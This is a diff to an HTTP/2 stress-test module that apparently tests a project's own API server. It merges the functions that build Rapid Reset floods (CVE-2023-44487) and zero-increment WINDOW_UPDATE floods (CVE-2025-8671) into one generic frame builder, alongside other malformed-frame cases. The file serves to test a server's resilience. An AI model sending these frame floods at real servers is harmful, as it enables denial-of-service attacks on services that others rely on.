@@ -11,22 +11,17 @@ from functools import partial
 
 from scripts.torture.attacks.case import Case, Target
 from scripts.torture.attacks.http2_client import (
-    CONTINUATION,
     DATA,
-    END_HEADERS,
-    END_STREAM,
-    HEADERS,
     PADDED,
     PING,
     PRIORITY,
     RST_STREAM,
-    SETTINGS,
     WINDOW_UPDATE,
     Client,
-    frame,
     head,
     setting,
 )
+from understudy.apiserver.server.http2.frames import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, SETTINGS, frame
 
 MAPS = "/api/v1/namespaces/default/configmaps"
 SECONDS = 5.0  # that a flood lasts
@@ -61,24 +56,16 @@ def _streams(part: int) -> range:
     return range(1 + 2 * AT_ONCE * part, 1 + 2 * AT_ONCE * (part + 1), 2)
 
 
-def _resets(target: Target, part: int) -> bytes:
-    """Return requests that are given up at once (CVE-2023-44487)."""
-    block = head(target, "GET", MAPS)
-    reset = (8).to_bytes(4)
-    ends = END_HEADERS | END_STREAM
-    return b"".join(
-        frame(HEADERS, ends, stream, block) + frame(RST_STREAM, 0, stream, reset) for stream in _streams(part)
-    )
+def _followed_by(kind: int, number: int) -> Make:
+    """Return requests that are each followed by a frame with a number in it."""
 
+    def make(target: Target, part: int) -> bytes:
+        block, payload, ends = head(target, "GET", MAPS), number.to_bytes(4), END_HEADERS | END_STREAM
+        return b"".join(
+            frame(HEADERS, ends, stream, block) + frame(kind, 0, stream, payload) for stream in _streams(part)
+        )
 
-def _made_resets(target: Target, part: int) -> bytes:
-    """Return requests that the server has to reset, by windows that grow by nothing (CVE-2025-8671)."""
-    block = head(target, "GET", MAPS)
-    nothing = (0).to_bytes(4)
-    ends = END_HEADERS | END_STREAM
-    return b"".join(
-        frame(HEADERS, ends, stream, block) + frame(WINDOW_UPDATE, 0, stream, nothing) for stream in _streams(part)
-    )
+    return make
 
 
 def _invalid(target: Target, part: int) -> bytes:
@@ -233,8 +220,8 @@ _UNKNOWN = frame(0xF0, 0, 0, b"12345678") * 400
 _PADDING = frame(DATA, PADDED, 1, b"\xff" + b"\0" * 255) * 30
 
 CASES = (
-    _case("h2: requests given up", _resets),
-    _case("h2: requests to reset", _made_resets),
+    _case("h2: requests given up", _followed_by(RST_STREAM, 8)),  # CVE-2023-44487
+    _case("h2: requests to reset", _followed_by(WINDOW_UPDATE, 0)),  # a window cannot grow by nothing (CVE-2025-8671)
     _case("h2: requests without a path", _invalid),
     _case("h2: resets that are not read", _invalid, reads=False),
     _case("h2: continuations", _continuations(b"\0\1a\1b" * 100), _begun),
